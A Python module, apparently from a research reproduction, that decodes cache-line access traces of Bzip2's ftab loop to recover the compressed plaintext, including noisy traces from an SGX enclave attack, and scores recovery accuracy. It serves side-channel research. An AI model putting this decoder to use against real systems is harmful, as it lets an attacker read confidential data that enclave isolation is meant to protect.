"""Plaintext recovery from the Bzip2 ``ftab[j]++`` trace (Section IV-D).

At loop iteration ``i`` the victim touches ``ftab + 4*j`` with
``j = (block[i] << 8) | block[i+1 mod n]``.  One cache-line observation
confines ``4*j + (ftab % 64)`` to a 64-byte window, i.e. ``j`` to 16
consecutive values:

* ``block[i]`` (= ``j >> 8``) is determined up to the paper's off-by-one
  ambiguity (the window may straddle a multiple of 256 because ftab is
  *not* line-aligned);
* ``block[i+1]``'s top bits are confined too, which is the redundancy
  the attacker uses "as a form of error correction" (Section V-D): each
  byte is the high half of one observation and the low half of another,
  and constraint propagation between neighbours resolves the ambiguity.

The same decoder serves the noise-free survey (one line per iteration)
and the end-to-end SGX attack (a *set* of candidate lines per iteration,
possibly empty on missed probes or polluted by false positives).

Candidate sets are held as 256-bit integers and each observation as a
few ``(hi, lo_mask)`` pairs computed arithmetically from its line, so a
block costs a few small ints per position and no state outlives the
call.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable, Optional, Sequence

Observation = Optional[Sequence[int]]  # candidate cache lines, or None


@dataclass
class RecoveredBlock:
    """Result of decoding one block's ftab trace."""

    candidates: list[set[int]]  # per byte position, surviving values
    values: list[int]  # point estimate (first candidate, or 0)

    def byte_accuracy(self, truth: bytes) -> float:
        if not truth:
            return 1.0
        good = sum(1 for v, t in zip(self.values, truth) if v == t)
        return good / len(truth)

    def bit_accuracy(self, truth: bytes) -> float:
        """Fraction of correct bits — the paper's Section V-E metric."""
        if not truth:
            return 1.0
        good = 0
        for v, t in zip(self.values, truth):
            good += 8 - bin(v ^ t).count("1")
        return good / (8 * len(truth))

    def ambiguous_positions(self) -> list[int]:
        return [i for i, c in enumerate(self.candidates) if len(c) != 1]


def _line_pairs(line: int, ftab_base: int) -> list[tuple[int, int]]:
    """The ``(hi, lo_mask)`` byte pairs whose ftab access falls in ``line``.

    ``4j + base in [lo_addr, lo_addr+63]`` pins ``j`` to the closed
    interval ``[ceil((lo_addr-base)/4), floor((lo_addr+63-base)/4)]``
    (16 consecutive values, clamped to the valid 16-bit range), so at
    most two ``hi = j >> 8`` bytes; ``lo_mask`` has bit ``lo`` set for
    each ``(hi << 8) | lo`` in the interval.  A line outside ftab gives
    no pairs.
    """
    lo_addr = line << 6
    j_lo = max(0, -(-(lo_addr - ftab_base) // 4))
    j_hi = min(0xFFFF, (lo_addr + 63 - ftab_base) // 4)
    pairs = []
    for hi in range(j_lo >> 8, (j_hi >> 8) + 1):
        first = max(j_lo - (hi << 8), 0)
        last = min(j_hi - (hi << 8), 0xFF)
        pairs.append((hi, ((2 << last) - 1) ^ ((1 << first) - 1)))
    return pairs


def _bits(mask: int) -> set[int]:
    out = set()
    while mask:
        low = mask & -mask
        out.add(low.bit_length() - 1)
        mask ^= low
    return out


def recover_bzip2_block(
    observations: Sequence[Observation],
    ftab_base: int,
    n: int,
    max_rounds: int = 4,
) -> RecoveredBlock:
    """Decode the block from per-iteration cache-line observations.

    Args:
        observations: ``observations[i]`` is the candidate cache lines
            seen when the loop processed index ``i`` (the access for the
            pair ``block[i], block[i+1 mod n]``); ``None`` or empty means
            the probe for that iteration was lost.
        ftab_base: base address of ftab (known in the threat model).
        n: block length.
        max_rounds: constraint-propagation sweeps.

    Returns:
        a :class:`RecoveredBlock` with per-position candidate sets after
        propagation and a point estimate.
    """
    # Candidates are 256-bit masks: bit v set <=> byte value v survives.
    masks = [(1 << 256) - 1] * n

    # Pair constraints: observation i links positions i and (i+1) % n,
    # held as (hi, lo_mask) pairs.  Initial narrowing from each
    # observation in isolation happens as they are built.
    links: list[Optional[list[tuple[int, int]]]] = [None] * n
    for i in range(min(n, len(observations))):
        obs = observations[i]
        if not obs:
            continue
        merged: dict[int, int] = {}
        for line in obs:
            for hi, lo_mask in _line_pairs(line, ftab_base):
                merged[hi] = merged.get(hi, 0) | lo_mask
        if not merged:
            continue
        links[i] = list(merged.items())
        hi_mask = lo_union = 0
        for hi, lo_mask in links[i]:
            hi_mask |= 1 << hi
            lo_union |= lo_mask
        masks[i] &= hi_mask
        masks[(i + 1) % n] &= lo_union

    # Propagate joint pair constraints until fixpoint (error correction
    # via the consecutive-iteration redundancy), updating in place in
    # ascending i.
    for _ in range(max_rounds):
        changed = False
        for i, pairs in enumerate(links):
            if pairs is None:
                continue
            nxt = (i + 1) % n
            cur_hi, cur_lo = masks[i], masks[nxt]
            new_hi = new_lo = 0
            for hi, lo_mask in pairs:
                if cur_hi >> hi & 1:
                    ok_lo = lo_mask & cur_lo
                    if ok_lo:
                        new_hi |= 1 << hi
                        new_lo |= ok_lo
            if not new_hi:
                continue  # contradictory (noisy) observation: skip
            if new_hi != masks[i]:
                masks[i] = new_hi
                changed = True
            if new_lo != masks[nxt]:
                masks[nxt] = new_lo
                changed = True
        if not changed:
            break

    values = [(m & -m).bit_length() - 1 if m else 0 for m in masks]
    return RecoveredBlock(candidates=[_bits(m) for m in masks], values=values)


def observations_from_lines(lines: Iterable[int], n: int) -> list[Observation]:
    """Adapt a noise-free trace (loop order: i = n-1 .. 0) into the
    per-index observation layout ``recover_bzip2_block`` expects.

    Accepts the line stream as any iterable of ints, including the
    int64 arrays :func:`repro.traces.replay.replay_lines_array` emits.
    """
    if hasattr(lines, "tolist"):
        lines = lines.tolist()
    per_index: list[Observation] = [None] * n
    for step, line in enumerate(lines):
        i = n - 1 - step
        if 0 <= i < n:
            per_index[i] = [line]
    return per_index
